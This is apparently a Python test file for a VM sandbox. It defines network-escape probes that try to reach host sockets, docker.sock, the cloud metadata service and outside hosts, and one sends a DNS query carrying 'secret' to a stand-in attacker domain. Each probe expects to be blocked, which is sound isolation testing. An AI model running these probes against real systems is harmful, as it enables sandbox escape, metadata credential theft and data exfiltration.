"""Attempts to reach anything outside of the vm, and to be reached from there."""
# ruff: noqa: E501  programs that are run inside stand here as they are

from rewindbox.attacks.attack import WORD, Attack

_FILTER, _BOTH = ("seccomp",), ("seccomp", "capabilities")
_WORDS = {2: "EPROTONOSUPPORT", 16: "EAFNOSUPPORT"}
"""What the filter says of protocols in these families; of other families it says EPERM."""

NETWORK = (
    Attack(
        id="loopback-of-the-host",
        tries="reach a server of the host",
        code="""
def reach(address):
    socket.create_connection((address, @PORT@), 5).sendall(b"x"); return True
all_must_raise(**{a: lambda a=a: reach(a) for a in ("127.0.0.1", "0.0.0.0", "localhost", "::1", "::ffff:127.0.0.1", "2130706433", "@ADDRESS@")})""",
        held_by=("network namespace",),
    ),
    Attack(
        id="datagrams-to-the-host",
        tries="send a datagram to the host, unseen by itself",
        code="""
sent = 0
for address in ("127.0.0.1", "0.0.0.0", "@ADDRESS@"):
    try: sent += socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", (address, @UDP@))
    except OSError: pass
say("HELD", sent)""",
        held_by=("network namespace",),
    ),
    Attack(
        id="serve-to-the-host",
        tries="be reached from the host",
        code="""
servers = [socket.create_server((address, @FREE@), family=family) for address, family in (("0.0.0.0", socket.AF_INET),)]
say("HELD", "and listens")""",
        held_by=("network namespace",),
    ),
    Attack(
        id="abstract-sockets",
        tries="reach a server of the host that has no file",
        code='all_must_raise(connect=lambda: socket.socket(socket.AF_UNIX).connect("\\0@ABSTRACT@") or 1)',
        held_by=("network namespace",),
    ),
    Attack(
        id="sockets-of-the-host",
        tries="reach a server of the host by its file",
        code='all_must_raise(**{r or "plain": lambda r=r: socket.socket(socket.AF_UNIX).connect(r + "@SOCKET@") or 1 for r in roots()})',
        held_by=("own root",),
    ),
    Attack(
        id="well-known-sockets",
        tries="reach docker, D-Bus, an agent of keys, a display, or any other server with a name",
        code="""
places = ("/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket", "/run/user", "/tmp/.X11-unix", "/run/systemd", "/run/snapd.socket", "/run/podman")
found = [p for p in places if os.path.exists(p)]
for name in {line.split(None, 7)[7] for line in open("/proc/net/unix").read().splitlines()[1:] if line.split()[7:]}:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try: socket.socket(socket.AF_UNIX, kind).connect("\\0" + name[1:] if name[0] == "@" else name)
        except OSError: continue
        found.append(name)
say("BROKE", found) if found else say("HELD")""",
        held_by=("network namespace",),
    ),
    Attack(
        id="metadata-service",
        tries="reach the cloud's metadata or anything outside",
        code="""
def reach(address, port):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(5); s.connect((address, port)); return True
targets = (("169.254.169.254", 80), ("1.1.1.1", 53), ("100.100.100.200", 80), ("fd00:ec2::254", 80), ("2606:4700:4700::1111", 53), ("10.0.0.1", 80), ("::ffff:169.254.169.254", 80))
all_must_raise(**{a: lambda a=a, p=p: reach(a, p) for a, p in targets})""",
        held_by=("empty network",),
    ),
    Attack(
        id="datagrams-to-anybody",
        tries="send datagrams and pings out, to groups and to all",
        code="""
def send(address, kind=socket.SOCK_DGRAM, protocol=0):
    s = socket.socket(socket.AF_INET, kind, protocol); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.settimeout(5)
    return s.sendto(bytes([8, 0, 0, 0, 0, 0, 0, 0]), (address, 53))
targets = ("169.254.169.254", "1.1.1.1", "10.0.0.1", "255.255.255.255", "224.0.0.1")
all_must_raise(**{a: lambda a=a: send(a) for a in targets}, ping=lambda: send("1.1.1.1", socket.SOCK_DGRAM, 1))""",
        held_by=("empty network",),
    ),
    Attack(
        id="names",
        tries="carry data out in a question for a name",
        code="""
question = bytes([7, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + b"\\6secret\\10attacker\\7example\\0" + bytes([0, 1, 0, 1])
def ask(server):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.connect((server, 53)); s.send(question)
    return s.recv(512)
servers = ("127.0.0.1", "127.0.0.53", "169.254.169.254", "1.1.1.1", "10.0.0.1")
all_must_raise(**{s: lambda s=s: ask(s) for s in servers}, name=lambda: socket.getaddrinfo("secret.attacker.example", 80), meta=lambda: socket.getaddrinfo("metadata.google.internal", 80))""",
        held_by=("empty network",),
    ),
    Attack(
        id="interfaces-and-routes",
        tries="find an interface or a route besides loopback",
        code="""
names = [name for _, name in socket.if_nameindex()]
routes = open("/proc/net/route").read().splitlines()[1:]
say("HELD") if names == ["lo"] and not routes else say("BROKE", names, routes)""",
        held_by=("empty network",),
    ),
    Attack(
        id="raw-sockets",
        tries="see or forge packets",
        code="""
kinds = {"icmp": (2, 3, 1), "icmp6": (10, 3, 58), "raw": (2, 3, 255), "packet": (17, 3, 0), "packet-dgram": (17, 2, 0), "sock-packet": (2, 10, 0x300), "high-bits": (2, 3 | 0x80000, 1)}
all_must_raise(**{n: lambda k=k: socket.socket(*k) for n, k in kinds.items()})""",
        held_by=("seccomp", "capabilities"),
    ),
    *(
        Attack(
            id=f"socket-of-{name}",
            tries=f"open a socket of {text}",
            code=(
                f'must_be_refused("socket", {family}, {kind}, {protocol}, by=errno.{_WORDS[family]})'
                if family in _WORDS
                else f'must_not_arrive("socket", {family}, {kind}, {protocol})'
            ),
            held_by=shown,
        )
        for name, family, kind, protocol, shown, text in (
            ("audit", 16, 3, 9, _FILTER, "the audit log, which knows no namespaces"),
            ("netfilter", 16, 3, 12, _FILTER, "packet filters"),
            ("generic-netlink", 16, 3, 16, _FILTER, "the kernel's other services"),
            ("device-events", 16, 3, 15, _FILTER, "devices that come and go"),
            ("transforms", 16, 3, 6, WORD, "encrypted tunnels"),
            ("crypto-netlink", 16, 3, 21, WORD, "the kernel's ciphers by name"),
            ("diagnosis", 16, 3, 4, WORD, "sockets of others"),
            ("ciphers", 38, 5, 0, _FILTER, "the kernel's ciphers"),
            ("machines", 40, 1, 0, _FILTER, "virtual machines and their host"),
            ("express-data", 44, 3, 0, _BOTH, "the network card's own memory"),
            ("clusters", 30, 5, 0, _FILTER, "clusters"),
            ("datagram-service", 21, 5, 0, _FILTER, "reliable datagrams"),
            ("cars", 29, 3, 1, _FILTER, "the bus of cars"),
            ("radio", 31, 3, 1, _FILTER, "bluetooth"),
            ("keys", 15, 3, 2, WORD, "the kernel's keys of tunnels"),
            ("shared-memory", 43, 1, 0, _FILTER, "shared memory over networks"),
            ("streams", 2, 1, 132, WORD, "multiplexed streams"),
            ("many-paths", 2, 1, 262, _FILTER, "many paths at once"),
        )
    ),
    Attack(
        id="change-a-route",
        tries="configure the network",
        code="""
control = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
all_must_raise(flags=lambda: fcntl.ioctl(control, 0x8914, struct.pack("16sh14x", b"lo", 0)), address=lambda: fcntl.ioctl(control, 0x8916, struct.pack("16sHH4s8x", b"lo", 2, 0, bytes([10, 0, 0, 1]))))""",
        held_by=("capabilities",),
    ),
    Attack(
        id="change-a-route-by-message",
        tries="configure the network by the kernel's messages",
        code="""
def ask(kind, body):
    s = socket.socket(16, 3, 0); s.settimeout(5)
    s.send(struct.pack("IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
    number = -struct.unpack_from("i", s.recv(4096), 16)[0]
    if number: raise OSError(number, "")
    return True
all_must_raise(address=lambda: ask(20, struct.pack("BBBBIHH4sHH4s", 2, 32, 0, 254, 1, 8, 2, bytes([10, 9, 8, 7]), 8, 1, bytes([10, 9, 8, 7]))),
    link=lambda: ask(16, struct.pack("BxHiII", 0, 0, 1, 0, 1)))""",
        held_by=("capabilities",),
    ),
    Attack(
        id="low-ports",
        tries="serve where only root may",
        code='all_must_raise(bind=lambda: socket.socket().bind(("127.0.0.1", 80)) or 1) if open("/proc/sys/net/ipv4/ip_unprivileged_port_start").read().strip() != "0" else say("HELD")',
        held_by=("capabilities",),
    ),
)
